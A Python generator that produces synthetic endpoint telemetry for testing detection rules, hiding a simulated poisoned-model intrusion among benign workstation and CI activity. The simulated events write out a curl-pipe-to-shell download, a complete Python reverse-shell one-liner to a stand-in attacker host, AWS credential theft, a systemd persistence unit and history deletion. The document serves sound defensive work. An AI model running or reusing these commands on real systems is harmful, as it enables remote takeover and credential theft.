#!/usr/bin/env python3
"""Generate examples/telemetry/incident.ndjson: one hour of Elastic Defend-style ECS telemetry from
an ML workstation (ml-ws-01) and a CI runner (ci-runner-07), with a malicious-model incident on the
workstation hidden in ordinary noise.

Deterministic (fixed seed, fixed clock), standard library only:

    python3 examples/telemetry/generate.py            # rewrites incident.ndjson next to this file
    python3 examples/telemetry/generate.py -o out.ndjson

Incident timeline (ml-ws-01, user alice):
  09:41:07  python3 train.py opens /home/alice/models/model.pt (torch.load)
  09:41:09  the pickle's __reduce__ runs /bin/sh -c "curl -fsSL http://203.0.113.7/x.sh | sh"
  09:41:10  sh -> curl (connects to 203.0.113.7:80); sh -> sh (runs the script from stdin)
  09:41:11  script starts python3 -c '<socket reverse shell with pty.spawn>' -> 203.0.113.7:4444
  09:41:11  the reverse shell starts /bin/sh under a pty
  09:42-46  hands-on-keyboard: id, uname, ls, python3 reads ~/.aws/credentials,
            python3 writes ~/.config/systemd/user/update.service, systemctl --user enable
"""
import argparse
import base64
import hashlib
import json
import os
import random
from datetime import datetime, timedelta, timezone

SEED = 20261120
START = datetime(2026, 11, 20, 9, 0, 0, tzinfo=timezone.utc)

HOSTS = {
    "ml": {
        "id": "7f2a9c4e1b3d4f5a8c6e0d2b4a6c8e1f",
        "name": "ml-ws-01",
        "hostname": "ml-ws-01",
        "architecture": "x86_64",
        "ip": ["10.20.3.41"],
        "os": {"type": "linux", "family": "ubuntu", "name": "Ubuntu", "version": "24.04.1 LTS",
               "kernel": "6.8.0-48-generic", "platform": "ubuntu"},
    },
    "ci": {
        "id": "0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f",
        "name": "ci-runner-07",
        "hostname": "ci-runner-07",
        "architecture": "x86_64",
        "ip": ["10.30.0.17"],
        "os": {"type": "linux", "family": "debian", "name": "Debian GNU/Linux", "version": "12",
               "kernel": "6.1.0-26-cloud-amd64", "platform": "debian"},
    },
}
UIDS = {"root": "0", "alice": "1000", "runner": "1001", "systemd-resolve": "991", "syslog": "104"}


class Gen:
    def __init__(self):
        self.rng = random.Random(SEED)
        self.events = []
        self.pids = {"ml": 2400, "ci": 1800}
        self.seq = 0

    # ---------- time and ids ----------
    @staticmethod
    def ts(t):
        return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)

    def pid(self, host):
        self.pids[host] += self.rng.randint(1, 9)
        return self.pids[host]

    @staticmethod
    def entity(host, pid, t):
        raw = "%s-%d-%d" % (HOSTS[host]["id"], pid, int(t.timestamp() * 1000))
        return base64.b64encode(raw.encode()).decode()

    # ---------- process model ----------
    def proc(self, host, t, exe, args, parent, user=None, cwd=None, name=None, pid=None, tty=None):
        pid = pid or self.pid(host)
        p = {
            "host": host,
            "pid": pid,
            "name": name or os.path.basename(exe),
            "executable": exe,
            "args": list(args),
            "start": t,
            "entity_id": self.entity(host, pid, t),
            "parent": parent,
            "user": user or (parent["user"] if parent else "root"),
            "cwd": cwd or (parent["cwd"] if parent else "/"),
            "tty": tty if tty is not None else (parent["tty"] if parent else False),
        }
        return p

    def brief(self, p):
        return {
            "pid": p["pid"],
            "name": p["name"],
            "executable": p["executable"],
            "args": p["args"],
            "args_count": len(p["args"]),
            "command_line": " ".join(p["args"]),
            "entity_id": p["entity_id"],
        }

    def pfields(self, p):
        d = self.brief(p)
        d["working_directory"] = p["cwd"]
        d["interactive"] = bool(p["tty"])
        d["start"] = self.ts(p["start"])
        if p["parent"]:
            d["parent"] = self.brief(p["parent"])
        anc, q = [], p["parent"]
        while q:
            anc.append(q["entity_id"])
            q = q["parent"]
        d["Ext"] = {"ancestry": anc}
        return d

    def base(self, t, host, category, etype, action, dataset):
        self.seq += 1
        h = HOSTS[host]
        return {
            "@timestamp": self.ts(t),
            "agent": {"type": "endpoint", "version": "8.15.3"},
            "ecs": {"version": "8.11.0"},
            "data_stream": {"type": "logs", "dataset": dataset, "namespace": "default"},
            "event": {
                "kind": "event",
                "category": [category],
                "type": etype,
                "action": action,
                "dataset": dataset,
                "module": "endpoint",
                "id": hashlib.sha1(("%s-%d" % (host, self.seq)).encode()).hexdigest()[:24],
            },
            "host": json.loads(json.dumps(h)),
        }

    def user(self, p):
        return {"name": p["user"], "id": UIDS.get(p["user"], "1000")}

    def emit(self, doc):
        self.events.append(doc)

    # ---------- event emitters ----------
    def exec_(self, p):
        d = self.base(p["start"], p["host"], "process", ["start"], "exec", "endpoint.events.process")
        d["process"] = self.pfields(p)
        d["user"] = self.user(p)
        self.emit(d)
        return p

    def end(self, p, t, code=0):
        d = self.base(t, p["host"], "process", ["end"], "end", "endpoint.events.process")
        d["process"] = self.pfields(p)
        d["process"]["exit_code"] = code
        d["process"]["end"] = self.ts(t)
        d["user"] = self.user(p)
        self.emit(d)

    def file(self, p, t, path, action):
        etype = {"creation": ["creation"], "modification": ["change"], "open": ["access"],
                 "deletion": ["deletion"], "rename": ["change"]}[action]
        d = self.base(t, p["host"], "file", etype, action, "endpoint.events.file")
        name = os.path.basename(path)
        f = {"path": path, "name": name, "directory": os.path.dirname(path)}
        stem, dot, ext = name.rpartition(".")
        if dot and stem:
            f["extension"] = ext
        d["file"] = f
        d["process"] = self.brief(p)
        d["user"] = self.user(p)
        self.emit(d)

    def net(self, p, t, ip, port, transport="tcp"):
        d = self.base(t, p["host"], "network", ["start"], "connection_attempted", "endpoint.events.network")
        h = HOSTS[p["host"]]
        d["network"] = {"transport": transport, "type": "ipv6" if ":" in ip else "ipv4", "direction": "egress"}
        d["source"] = {"ip": h["ip"][0], "port": self.rng.randint(32768, 60999)}
        d["destination"] = {"ip": ip, "port": port, "address": ip}
        d["process"] = self.brief(p)
        d["user"] = self.user(p)
        self.emit(d)

    def run(self, host, t, exe, args, parent, dur=0.05, code=0, **kw):
        """A short-lived child: exec now, end after `dur` seconds."""
        p = self.exec_(self.proc(host, t, exe, args, parent, **kw))
        self.end(p, t + timedelta(seconds=dur), code)
        return p


def S(sec):
    return START + timedelta(seconds=sec)


def build():
    g = Gen()
    rng = g.rng

    # ------------------------------------------------------------------ ml-ws-01
    init = g.proc("ml", START - timedelta(days=2), "/usr/lib/systemd/systemd",
                  ["/sbin/init", "splash"], None, user="root", pid=1)
    sshd = g.proc("ml", START - timedelta(days=2), "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
                  init, pid=1187, name="sshd")
    cron = g.proc("ml", START - timedelta(days=2), "/usr/sbin/cron", ["/usr/sbin/cron", "-f", "-P"], init, pid=1102)
    user_mgr = g.proc("ml", START - timedelta(days=1), "/usr/lib/systemd/systemd", ["/usr/lib/systemd/systemd", "--user"],
                      init, user="alice", cwd="/home/alice", pid=2011)

    def ssh_login(sec, tty):
        priv = g.exec_(g.proc("ml", S(sec), "/usr/sbin/sshd", ["sshd: alice [priv]"], sshd, user="root", name="sshd"))
        sess = g.exec_(g.proc("ml", S(sec + 0.4), "/usr/sbin/sshd", ["sshd: alice@" + tty], priv, user="alice",
                              cwd="/home/alice", name="sshd", tty=True))
        sh = g.exec_(g.proc("ml", S(sec + 0.5), "/usr/bin/bash", ["-bash"], sess, user="alice", cwd="/home/alice", name="bash", tty=True))
        return sh

    bash0 = ssh_login(95, "pts/0")
    proj = "/home/alice/proj"
    bash0["cwd"] = proj

    # jupyter lab, started earlier in the morning, and one kernel
    venv_py = "/home/alice/.venv/bin/python"
    jlab = g.proc("ml", START - timedelta(hours=2), venv_py,
                  [venv_py, "/home/alice/.venv/bin/jupyter-lab", "--no-browser", "--port=8888"], user_mgr,
                  user="alice", cwd="/home/alice/notebooks", name="python")
    kernel = g.exec_(g.proc("ml", S(300), venv_py,
                            [venv_py, "-m", "ipykernel_launcher", "-f",
                             "/home/alice/.local/share/jupyter/runtime/kernel-5c1f0a2e-77d4-4a3c-9e61-0b8f3d2a9c11.json"],
                            jlab, cwd="/home/alice/notebooks", name="python"))
    for i in range(4):
        g.net(kernel, S(300.2 + i * 0.01), "127.0.0.1", 37811 + i)
    for i, sec in enumerate(range(360, 3400, 170)):
        g.file(kernel, S(sec), "/home/alice/data/eval/part-%05d.parquet" % i, "open")
    g.file(kernel, S(2150), "/home/alice/notebooks/.ipynb_checkpoints/eda-checkpoint.ipynb", "modification")

    # interactive commands in the first ssh session
    cmds = [
        ["git", "status"], ["git", "pull", "--rebase"], ["ls", "-la"], ["nvidia-smi"],
        ["grep", "-rn", "learning_rate", "configs/"], ["cat", "configs/resnet50.yaml"],
        ["vim", "configs/resnet50.yaml"], ["git", "diff"], ["ls", "runs/"], ["df", "-h"],
        ["du", "-sh", "/home/alice/data"], ["tail", "-n", "50", "runs/resnet50/train.log"],
        ["git", "log", "--oneline", "-5"], ["htop"], ["free", "-g"], ["ps", "aux"],
        ["grep", "-c", "loss", "runs/resnet50/train.log"], ["ls", "/home/alice/models"],
    ]
    exes = {"git": "/usr/bin/git", "ls": "/usr/bin/ls", "nvidia-smi": "/usr/bin/nvidia-smi", "grep": "/usr/bin/grep",
            "cat": "/usr/bin/cat", "vim": "/usr/bin/vim.basic", "df": "/usr/bin/df", "du": "/usr/bin/du",
            "tail": "/usr/bin/tail", "htop": "/usr/bin/htop", "free": "/usr/bin/free", "ps": "/usr/bin/ps"}
    sec = 130
    while sec < 3500:
        c = cmds[rng.randrange(len(cmds))]
        p = g.run("ml", S(sec), exes[c[0]], c, bash0, dur=rng.choice([0.02, 0.1, 0.6, 3.0]), name="vim" if c[0] == "vim" else None)
        if c[:2] == ["git", "pull"]:
            ssh = g.run("ml", S(sec + 0.05), "/usr/bin/ssh", ["/usr/bin/ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@github.com",
                                                         "git-upload-pack 'acme/vision.git'"], p, dur=1.2)
            g.net(ssh, S(sec + 0.1), "140.82.112.3", 22)
        sec += rng.randint(40, 150)

    # quick environment checks: python -c without network or shells (near misses)
    g.run("ml", S(240), "/usr/bin/python3", ["python3", "-c", "import torch; print(torch.cuda.is_available())"],
          bash0, dur=2.4, name="python3")
    g.run("ml", S(1790), "/usr/bin/python3", ["python3", "-c", "import sys; print(sys.version)"], bash0, dur=0.1, name="python3")

    # pip install, with its network, files and the build-hook shell-out (excluded by the rules)
    pip = g.exec_(g.proc("ml", S(1205), venv_py, [venv_py, "/home/alice/.venv/bin/pip", "install", "-U", "timm", "pycocotools"],
                         bash0, name="python"))
    for i in range(6):
        g.net(pip, S(1205.5 + i * 0.7), rng.choice(["151.101.0.223", "151.101.64.223", "151.101.128.223"]), 443)
    for i, f in enumerate(["timm/__init__.py", "timm/models/resnet.py", "timm/models/vision_transformer.py",
                           "timm/layers/__init__.py", "timm-1.0.11.dist-info/METADATA", "timm-1.0.11.dist-info/RECORD"]):
        g.file(pip, S(1212 + i * 0.2), "/home/alice/.venv/lib/python3.12/site-packages/" + f, "creation")
    hook = g.exec_(g.proc("ml", S(1214), venv_py,
                          [venv_py, "/home/alice/.venv/lib/python3.12/site-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py",
                           "build_wheel", "/tmp/tmp8q3m0x1c"], pip, cwd="/tmp/pip-install-7r2k1m/pycocotools_3f9a", name="python"))
    bsh = g.run("ml", S(1215), "/usr/bin/dash", ["/bin/sh", "-c", "gcc -pthread -fno-strict-overflow -fPIC -c pycocotools/_mask.c -o build/_mask.o"],
                hook, dur=6.0, name="sh")
    g.run("ml", S(1215.1), "/usr/bin/x86_64-linux-gnu-gcc-13", ["gcc", "-pthread", "-fno-strict-overflow", "-fPIC", "-c",
                                                              "pycocotools/_mask.c", "-o", "build/_mask.o"], bsh, dur=5.8, name="gcc")
    g.end(hook, S(1222))
    for i, f in enumerate(["pycocotools/_mask.cpython-312-x86_64-linux-gnu.so", "pycocotools/coco.py",
                           "pycocotools-2.0.8.dist-info/RECORD"]):
        g.file(pip, S(1223 + i * 0.2), "/home/alice/.venv/lib/python3.12/site-packages/" + f, "creation")
    g.end(pip, S(1225))

    # the long-running training job (benign): reads shards, writes checkpoints, talks to the tracker
    train = g.exec_(g.proc("ml", S(330), "/usr/bin/python3", ["python3", "train.py", "--config", "configs/resnet50.yaml"],
                           bash0, name="python3"))
    g.file(train, S(331), proj + "/configs/resnet50.yaml", "open")
    for i, sec in enumerate(range(335, 3550, 45)):
        g.file(train, S(sec), "/home/alice/data/imagenet/train-%05d-of-01024.tar" % (i * 7 % 1024), "open")
    for i, sec in enumerate(range(340, 3550, 120)):
        g.net(train, S(sec), "35.186.228.49", 443)
    for i, sec in enumerate(range(900, 3550, 600)):
        g.file(train, S(sec), proj + "/runs/resnet50/ckpt-%04d.pt" % (i + 1), "creation")
        g.file(train, S(sec + 0.3), proj + "/runs/resnet50/train.log", "modification")
    for sec in range(600, 3550, 600):
        g.run("ml", S(sec), "/usr/bin/nvidia-smi", ["nvidia-smi", "--query-gpu=utilization.gpu,memory.used", "--format=csv"],
              train, dur=0.3)

    # cron and systemd timers
    for sec in (1020,):
        c = g.run("ml", S(sec), "/usr/bin/dash", ["/bin/sh", "-c", "   cd / && run-parts --report /etc/cron.hourly"],
                  cron, dur=0.2, user="root", cwd="/", name="sh")
        g.run("ml", S(sec + 0.01), "/usr/bin/run-parts", ["run-parts", "--report", "/etc/cron.hourly"], c, dur=0.15)
    for sec, args in ((610, ["/usr/bin/systemd-tmpfiles", "--clean"]), (2410, ["/usr/sbin/logrotate", "/etc/logrotate.conf"]),
                      (3000, ["/usr/lib/snapd/snap-repair", "run"])):
        g.run("ml", S(sec), args[0], args, init, dur=0.4, user="root", cwd="/")
    for sec in range(50, 3600, 300):
        g.run("ml", S(sec), "/usr/bin/sysstat", ["/usr/lib/sysstat/debian-sa1", "1", "1"], init, dur=0.1, user="root", cwd="/",
              name="debian-sa1")

    # ------------------------------------------------------------------ the incident
    bash1 = ssh_login(2380, "pts/1")
    bash1["cwd"] = proj
    g.run("ml", S(2392), "/usr/bin/git", ["git", "pull"], bash1, dur=1.5)
    g.run("ml", S(2410), "/usr/bin/ls", ["ls", "-la", "/home/alice/models"], bash1, dur=0.02)
    # alice fetched a "fine-tuned" checkpoint from a model hub earlier; now she evaluates it
    evalp = g.exec_(g.proc("ml", S(2466.120), "/usr/bin/python3",
                           ["python3", "train.py", "--resume", "/home/alice/models/model.pt", "--eval-only"], bash1, name="python3"))
    g.file(evalp, S(2466.900), proj + "/configs/resnet50.yaml", "open")
    g.file(evalp, S(2467.350), "/home/alice/models/model.pt", "open")
    s1 = g.exec_(g.proc("ml", S(2469.041), "/usr/bin/dash", ["/bin/sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"],
                        evalp, name="sh"))
    curl = g.exec_(g.proc("ml", S(2469.052), "/usr/bin/curl", ["curl", "-fsSL", "http://203.0.113.7/x.sh"], s1))
    g.net(curl, S(2469.060), "203.0.113.7", 80)
    s2 = g.exec_(g.proc("ml", S(2469.055), "/usr/bin/dash", ["sh"], s1, name="sh"))
    g.end(curl, S(2469.410))
    rev_code = ('import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
                's.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);'
                'import pty;pty.spawn("/bin/sh")')
    rev = g.exec_(g.proc("ml", S(2469.618), "/usr/bin/python3", ["python3", "-c", rev_code], s2, name="python3"))
    g.net(rev, S(2469.701), "203.0.113.7", 4444)
    g.end(s2, S(2469.720))
    g.end(s1, S(2469.722))
    # the model "loads" and the evaluation finishes normally, so nothing looks wrong to alice
    g.file(evalp, S(2470.5), "/home/alice/data/imagenet/val-00000-of-00128.tar", "open")
    g.end(evalp, S(2512.0))
    pty_sh = g.exec_(g.proc("ml", S(2469.840), "/usr/bin/dash", ["/bin/sh"], rev, name="sh", tty=True))

    t = 2530.0
    for c in (["id"], ["uname", "-a"], ["ls", "-la", "/home/alice"], ["ls", "-la", "/home/alice/.aws"]):
        exe = {"id": "/usr/bin/id", "uname": "/usr/bin/uname", "ls": "/usr/bin/ls"}[c[0]]
        g.run("ml", S(t), exe, c, pty_sh, dur=0.01)
        t += rng.uniform(4, 11)
    steal = g.exec_(g.proc("ml", S(t), "/usr/bin/python3",
                           ["python3", "-c", "print(open('/home/alice/.aws/credentials').read())"], pty_sh, name="python3"))
    g.file(steal, S(t + 0.04), "/home/alice/.aws/credentials", "open")
    g.end(steal, S(t + 0.05))
    t += 37
    g.run("ml", S(t), "/usr/bin/mkdir", ["mkdir", "-p", "/home/alice/.config/systemd/user"], pty_sh, dur=0.01)
    t += 9
    unit = ("[Unit]\\nDescription=User update agent\\n[Service]\\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.7/x.sh | sh'\\n"
            "Restart=always\\nRestartSec=600\\n[Install]\\nWantedBy=default.target\\n")
    persist = g.exec_(g.proc("ml", S(t), "/usr/bin/python3",
                             ["python3", "-c", "open('/home/alice/.config/systemd/user/update.service','w').write(\"%s\")" % unit],
                             pty_sh, name="python3"))
    g.file(persist, S(t + 0.03), "/home/alice/.config/systemd/user/update.service", "creation")
    g.end(persist, S(t + 0.04))
    t += 12
    g.run("ml", S(t), "/usr/bin/systemctl", ["systemctl", "--user", "daemon-reload"], pty_sh, dur=0.2)
    t += 6
    g.run("ml", S(t), "/usr/bin/systemctl", ["systemctl", "--user", "enable", "update.service"], pty_sh, dur=0.3)
    t += 20
    g.run("ml", S(t), "/usr/bin/rm", ["rm", "-f", "/home/alice/.bash_history"], pty_sh, dur=0.01)

    # ------------------------------------------------------------------ ci-runner-07
    cinit = g.proc("ci", START - timedelta(days=6), "/usr/lib/systemd/systemd", ["/sbin/init"], None, user="root", pid=1)
    listener = g.proc("ci", START - timedelta(days=6), "/home/runner/actions-runner/bin/Runner.Listener",
                      ["/home/runner/actions-runner/bin/Runner.Listener", "run", "--startuptype", "service"], cinit,
                      user="runner", cwd="/home/runner/actions-runner", pid=911)
    for sec in range(20, 3600, 60):
        g.net(listener, S(sec + rng.random()), rng.choice(["140.82.113.21", "140.82.114.22"]), 443)
    ccron = g.proc("ci", START - timedelta(days=6), "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], cinit, pid=640)
    c = g.run("ci", S(1020.4), "/usr/bin/dash", ["/bin/sh", "-c", "   cd / && run-parts --report /etc/cron.hourly"],
              ccron, dur=0.2, user="root", cwd="/", name="sh")
    g.run("ci", S(1020.41), "/usr/bin/run-parts", ["run-parts", "--report", "/etc/cron.hourly"], c, dur=0.1)

    work = "/home/runner/work/webapp/webapp"
    node = "/opt/hostedtoolcache/node/20.18.0/x64/bin/node"
    npm = "/opt/hostedtoolcache/node/20.18.0/x64/bin/npm"
    hpy = "/opt/hostedtoolcache/Python/3.12.7/x64/bin/python"

    def step(worker, t0, script_id):
        return g.exec_(g.proc("ci", S(t0), "/usr/bin/bash",
                              ["/usr/bin/bash", "-e", "/home/runner/work/_temp/%s.sh" % script_id], worker,
                              cwd=work, name="bash"))

    for j, t0 in enumerate((400, 1500, 2900)):
        worker = g.exec_(g.proc("ci", S(t0), "/home/runner/actions-runner/bin/Runner.Worker",
                                ["/home/runner/actions-runner/bin/Runner.Worker", "spawnclient", "133", "136"],
                                listener, cwd="/home/runner/actions-runner"))
        # checkout
        gitp = g.run("ci", S(t0 + 2), "/usr/bin/git", ["/usr/bin/git", "-c", "protocol.version=2", "fetch", "--no-tags",
                                                       "--prune", "--no-recurse-submodules", "--depth=1", "origin"],
                     worker, dur=1.8, cwd=work)
        rh = g.run("ci", S(t0 + 2.1), "/usr/lib/git-core/git-remote-https",
                   ["/usr/lib/git-core/git-remote-https", "origin", "https://github.com/acme/webapp"], gitp, dur=1.5)
        g.net(rh, S(t0 + 2.2), "140.82.112.4", 443)
        g.run("ci", S(t0 + 4), "/usr/bin/git", ["/usr/bin/git", "checkout", "--progress", "--force", "-B", "main",
                                                "refs/remotes/origin/main"], worker, dur=0.3, cwd=work)
        # npm ci
        b = step(worker, t0 + 6, "8b1f%04d-2c4d-4e6f-9a0b-1c2d3e4f5a6%d" % (j, j))
        ci = g.exec_(g.proc("ci", S(t0 + 6.1), node, ["node", npm, "ci", "--no-audit", "--no-fund"], b, name="node"))
        for i in range(5):
            g.net(ci, S(t0 + 6.5 + i * 0.4), rng.choice(["104.16.24.34", "104.16.27.34"]), 443)
        for i, f in enumerate(["react/index.js", "react-dom/index.js", "vite/bin/vite.js", "vitest/vitest.mjs",
                               "@esbuild/linux-x64/bin/esbuild", "typescript/lib/tsc.js"]):
            g.file(ci, S(t0 + 9 + i * 0.1), work + "/node_modules/" + f, "creation")
        g.end(ci, S(t0 + 14))
        g.end(b, S(t0 + 14.1))
        # npm run build -> sh -c "vite build" -> node vite -> esbuild (excluded: project script)
        b = step(worker, t0 + 15, "4a2e%04d-7b8c-4d9e-8f0a-2b3c4d5e6f7%d" % (j, j))
        run = g.exec_(g.proc("ci", S(t0 + 15.1), node, ["node", npm, "run", "build"], b, name="node"))
        shb = g.exec_(g.proc("ci", S(t0 + 15.4), "/usr/bin/dash", ["sh", "-c", "tsc -b && vite build"], run, name="sh"))
        g.run("ci", S(t0 + 15.5), node, ["node", work + "/node_modules/.bin/tsc", "-b"], shb, dur=4.0, name="node")
        vite = g.exec_(g.proc("ci", S(t0 + 19.6), node, ["node", work + "/node_modules/.bin/vite", "build"], shb, name="node"))
        g.run("ci", S(t0 + 19.9), work + "/node_modules/@esbuild/linux-x64/bin/esbuild",
              [work + "/node_modules/@esbuild/linux-x64/bin/esbuild", "--service=0.21.5", "--ping"], vite, dur=6.0)
        for i in range(4):
            g.file(vite, S(t0 + 24 + i * 0.1), work + "/dist/assets/index-%s.js" % hashlib.md5(b"%d%d" % (j, i)).hexdigest()[:8],
                   "creation")
        g.end(vite, S(t0 + 26))
        g.end(shb, S(t0 + 26.1))
        g.end(run, S(t0 + 26.2))
        g.end(b, S(t0 + 26.3))
        # npm test
        b = step(worker, t0 + 27, "c3d4%04d-5e6f-4a7b-8c9d-0e1f2a3b4c5%d" % (j, j))
        run = g.exec_(g.proc("ci", S(t0 + 27.1), node, ["node", npm, "test"], b, name="node"))
        sht = g.exec_(g.proc("ci", S(t0 + 27.3), "/usr/bin/dash", ["sh", "-c", "vitest run"], run, name="sh"))
        g.run("ci", S(t0 + 27.4), node, ["node", work + "/node_modules/.bin/vitest", "run"], sht, dur=18.0, name="node")
        g.end(sht, S(t0 + 45.5))
        g.end(run, S(t0 + 45.6))
        g.end(b, S(t0 + 45.7))
        # python API tests: pip install (excluded) then pytest
        b = step(worker, t0 + 46, "e5f6%04d-7a8b-4c9d-0e1f-2a3b4c5d6e7%d" % (j, j))
        pipc = g.exec_(g.proc("ci", S(t0 + 46.1), hpy, ["python", "-m", "pip", "install", "-r", "api/requirements.txt"], b,
                              name="python"))
        for i in range(4):
            g.net(pipc, S(t0 + 46.5 + i * 0.5), rng.choice(["151.101.0.223", "151.101.192.223"]), 443)
        g.run("ci", S(t0 + 49), "/usr/bin/dash", ["/bin/sh", "-c", "uname -rs"], pipc, dur=0.01, name="sh")
        g.end(pipc, S(t0 + 52))
        pyt = g.exec_(g.proc("ci", S(t0 + 52.5), hpy, ["python", "-m", "pytest", "-q", "api/tests"], b, name="python"))
        g.run("ci", S(t0 + 53), "/usr/bin/git", ["git", "rev-parse", "HEAD"], pyt, dur=0.01)
        g.net(pyt, S(t0 + 54), "127.0.0.1", 5432)
        g.end(pyt, S(t0 + 71))
        g.end(b, S(t0 + 71.1))
        g.end(worker, S(t0 + 72))

    g.events.sort(key=lambda d: d["@timestamp"])
    return g.events


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-o", "--output", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), "incident.ndjson"))
    a = ap.parse_args()
    events = build()
    with open(a.output, "w") as f:
        for e in events:
            f.write(json.dumps(e, separators=(",", ":")) + "\n")
    print("wrote %d events to %s" % (len(events), a.output))


if __name__ == "__main__":
    main()
